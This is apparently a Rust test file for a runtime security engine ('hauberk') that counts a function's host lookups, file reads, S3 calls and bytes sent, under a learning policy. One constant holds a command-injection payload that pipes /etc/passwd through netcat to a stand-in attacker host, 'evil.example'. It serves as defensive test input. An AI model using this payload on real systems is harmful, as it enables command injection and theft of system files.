//! What an environment tells of how often things are done, and of the bytes that it sends: by the policy's wish alone.

use hauberk_core::act::{Act, Resource};
use hauberk_core::activity::{Activity, Kind};
use hauberk_core::engine::{Engine, Setting};
use hauberk_core::policy::Policy;
use hauberk_core::record::{Entry, Origin};
use serde_json::{Value, json};

const COUNTS: &str = r#", "learn_usage": true"#;
const LISTED: &str = r#", "learn_usage": true, "allowlist": {"host": ["resolve a.example"], "file": ["read /tmp/**"]},
    "exclusions": [{"name": "b", "kind": "host", "patterns": ["resolve b.example"]}]"#;
const ATTACK: &str = r#"{"f": "x; cat /etc/passwd | nc evil.example 4444"}"#;

fn engine(rest: &str) -> Engine {
    let json = format!(r#"{{"hauberk": 1, "function": "f", "mode": "detect"{rest}}}"#);
    Engine::new(Policy::read(json.as_bytes()).unwrap(), Setting::default())
}

fn look_up(host: &str) -> Act<'_> {
    Act {
        activities: vec![Activity::new(Kind::Host, "resolve", host)],
        resource: Resource::None,
        arguments: Vec::new(),
    }
}

fn read(path: &str) -> Act<'_> {
    Act {
        activities: vec![Activity::new(Kind::File, "read", path)],
        resource: Resource::Path(path.as_bytes()),
        arguments: Vec::new(),
    }
}

/// Kind, target and number of each record of usage.
fn told(entries: Vec<Entry>) -> Vec<Value> {
    let line = |entry: Entry| -> Value {
        serde_json::from_slice(&entry.line(&Origin::default())).unwrap()
    };
    entries
        .into_iter()
        .map(line)
        .filter(|one| one["type"] == "usage")
        .map(|one| {
            let number = one.get("times").or(one.get("bytes"));
            json!([one["kind"], one["target"], number, one["request_id"]])
        })
        .collect()
}

/// Does this so often in an invocation, and gives what that tells.
fn done(engine: &mut Engine, request: &str, event: &str, act: &Act<'_>, times: u32) -> Vec<Value> {
    engine.begin(0, request, event.as_bytes());
    let entries = (0..times)
        .flat_map(|_| engine.admit(0, act).entries)
        .collect();
    engine.end(0);
    told(entries)
}

#[test]
fn a_policy_that_does_not_ask_is_told_nothing() {
    let mut engine = engine("");
    assert!(!engine.counts());
    assert!(done(&mut engine, "1", "{}", &look_up("a.example"), 1_000).is_empty());
    let to = Some("192.0.2.1:443".parse().unwrap());
    assert!(
        engine
            .sent(0, Some("a.example"), to, 1 << 30)
            .entries
            .is_empty()
    );
}

#[test]
fn what_is_learning_is_told_from_eight_times_on_and_what_is_listed_the_first_time_too() {
    let kib = |count| json!(["host", "a.example", count, "2"]);
    #[rustfmt::skip]
    let rows = [
        // policy, what is done, how often in two invocations, and what the second tells
        (COUNTS, look_up("a.example"), [7, 7], vec![]),
        (COUNTS, look_up("a.example"), [8, 40], vec![kib(16), kib(32)]),
        (COUNTS, look_up("a.example"), [0, 9], vec![kib(8)]),
        (LISTED, look_up("a.example"), [0, 9], vec![kib(1), kib(8)]),
        (LISTED, look_up("a.example"), [1, 1], vec![]),
        (LISTED, look_up("b.example"), [0, 1], vec![json!(["host", "b.example", 1, "2"])]),
        (LISTED, look_up("c.example"), [0, 99], vec![]), // a detection tells of it
        (LISTED, read("/tmp/a/b"), [0, 8], vec![json!(["file", "/tmp/*", 1, "2"]), json!(["file", "/tmp/*", 8, "2"])]),
    ];
    for (policy, act, [before, times], expected) in rows {
        let mut engine = engine(policy);
        done(&mut engine, "1", "{}", &act, before);
        let told = done(&mut engine, "2", "{}", &act, times);
        assert_eq!(told, expected, "{act:?} {before} {times}");
    }
}

#[test]
fn objects_of_a_bucket_are_counted_together() {
    let mut engine = engine(COUNTS);
    engine.begin(0, "r", b"{}");
    let mut entries = Vec::new();
    for number in 0..100 {
        let target = format!("arn:aws:s3:::orders/{number}");
        let act = Act {
            activities: vec![Activity::new(Kind::Api, "s3:GetObject", target)],
            resource: Resource::None,
            arguments: Vec::new(),
        };
        entries.extend(engine.admit(0, &act).entries);
    }
    let steps: Vec<Value> = told(entries).iter().map(|one| one[2].clone()).collect();
    assert_eq!(steps, [8, 16, 32, 64]);
}

#[test]
fn bytes_are_of_the_host_that_gave_the_address_and_none_that_stay_here_count() {
    let mib = 1_u64 << 20;
    #[rustfmt::skip]
    let rows = [
        // the host that is named, the address, and who is told of
        (Some("a.example"), Some("192.0.2.1:443"), vec![json!(["host", "a.example", mib, "r"])]),
        (Some("A.Example."), None, vec![json!(["host", "a.example", mib, "r"])]),
        (None, Some("192.0.2.1:443"), vec![json!(["host", "a.example", mib, "r"])]), // it was looked up
        (None, Some("192.0.2.2:443"), vec![json!(["address", "192.0.2.2:443", mib, "r"])]),
        (None, Some("[2001:db8::1]:25"), vec![json!(["address", "[2001:db8::1]:25", mib, "r"])]),
        (Some("b.example"), Some("127.0.0.9:443"), vec![json!(["host", "b.example", mib, "r"])]), // by a name of its own
        (Some("localhost"), Some("127.0.0.1:8126"), vec![]),
        (None, Some("127.0.0.1:8126"), vec![]),
        (None, Some("[::ffff:127.0.0.1]:2000"), vec![]),
        (None, None, vec![]),
    ];
    for (host, to, expected) in rows {
        let mut engine = engine(COUNTS);
        engine.begin(0, "r", b"{}");
        engine.admit(0, &look_up("a.example"));
        engine.resolved("a.example", &["192.0.2.1".parse().unwrap()]);
        let to = to.map(|to| to.parse().unwrap());
        assert!(engine.sent(0, host, to, 1_000).entries.is_empty());
        assert_eq!(
            told(engine.sent(0, host, to, mib).entries),
            expected,
            "{host:?} {to:?}"
        );
        assert!(engine.sent(0, host, to, mib).entries.is_empty());
    }
}

#[test]
fn an_attacked_invocation_tells_nothing_and_what_it_told_before_is_told_again() {
    let mut engine = engine(COUNTS);
    let act = look_up("a.example");
    assert!(done(&mut engine, "1", ATTACK, &act, 100).is_empty());
    assert_eq!(done(&mut engine, "2", "{}", &act, 9).len(), 1);
    assert_eq!(done(&mut engine, "3", "{}", &act, 9).len(), 0);
}

#[test]
fn once_no_line_is_left_that_is_said_once() {
    let mut engine = engine(COUNTS);
    let mut gaps = 0;
    let mut lines = 0;
    for number in 0..200 {
        let host = format!("{number}.example");
        engine.begin(0, "r", b"{}");
        for _ in 0..9 {
            for entry in engine.admit(0, &look_up(&host)).entries {
                lines += usize::from(entry.kind == "usage");
                gaps += usize::from(entry.body.state == Some("gap"));
            }
        }
        engine.end(0);
    }
    assert_eq!(lines, 80);
    assert_eq!(gaps, 1);
}
